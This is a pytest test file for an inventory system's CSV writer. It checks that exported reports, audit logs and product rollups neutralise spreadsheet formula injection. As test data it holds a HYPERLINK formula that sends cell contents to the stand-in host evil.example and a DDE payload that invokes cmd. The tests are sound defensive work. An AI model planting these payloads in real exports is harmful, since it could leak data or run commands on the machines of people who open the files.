"""No CSV IMS writes lets a spreadsheet run a formula (OWASP's CSV injection advice): text that
starts with =, +, -, @, a tab or a carriage return gets a leading ', plain numbers stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command

from ims.audit import audit_record
from ims.csvio import write_csv
from ims.roles import Role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("-12.50", "-12.50"),
        (-3, "-3"),
        ("A-1", "A-1"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(tmp_path, cell, written):
    out = io.StringIO()
    write_csv(out, ["cell"], [[cell]])
    assert rows_of(out.getvalue()) == [["cell"], [written]]


@pytest.fixture
def channel_only_formula(world, ingest, tmp_path):
    """A channel lists a 'SKU' that is a formula: reconcile raises it as a Channel_Only_SKU."""
    ingest(
        "snapshot",
        "channel,sku_id,quantity,price,currency\n"
        f'shop,"{FORMULA.replace(chr(34), chr(34) * 2)}",4,30.00,USD\n'
        "shop,A-1,1,30.00,USD\n",
    )
    call_command("reconcile", "--out", str(tmp_path))
    return tmp_path


def test_the_exceptions_report_export_and_download_neutralise_a_channel_sku(
    channel_only_formula, client, user_with_role, capsys
):
    report = rows_of((channel_only_formula / "exceptions.csv").read_text())
    call_command("export", "exceptions")
    exported = rows_of(capsys.readouterr().out)
    client.force_login(user_with_role(Role.OPS))
    response = client.get("/exceptions/export.csv")
    downloaded = rows_of(b"".join(response.streaming_content).decode())
    for rows in (report, exported, downloaded):
        skus = [row[0] for row in rows[1:]]
        assert "'" + FORMULA in skus and FORMULA not in skus


def test_the_audit_export_and_download_neutralise_a_reason(world, client, user_with_role, capsys):
    admin = user_with_role(Role.SUPERADMIN, "root")
    audit_record(actor=admin, action="note", reason="@SUM(1+1)*cmd|' /C calc'!A0")
    call_command("export", "audit")
    exported = rows_of(capsys.readouterr().out)
    client.force_login(admin)
    downloaded = rows_of(b"".join(client.get("/audit/export.csv").streaming_content).decode())
    for rows in (exported, downloaded):
        reasons = [row[8] for row in rows[1:]]
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in reasons


def test_the_sku_rollup_neutralises_a_product_name(world, ingest, tmp_path):
    ingest(
        "catalog",
        "sku_id,name,barcode,category,uom,cost,mrp,price,currency\n"
        "C-9,=1+2,96385074,apparel,EA,5.00,20.00,15.00,USD\n",
    )
    call_command("reconcile", "--out", str(tmp_path))
    rollup = {row[0]: row[1] for row in rows_of((tmp_path / "sku-rollup.csv").read_text())}
    assert rollup["C-9"] == "'=1+2" and rollup["A-1"] == "Shirt"
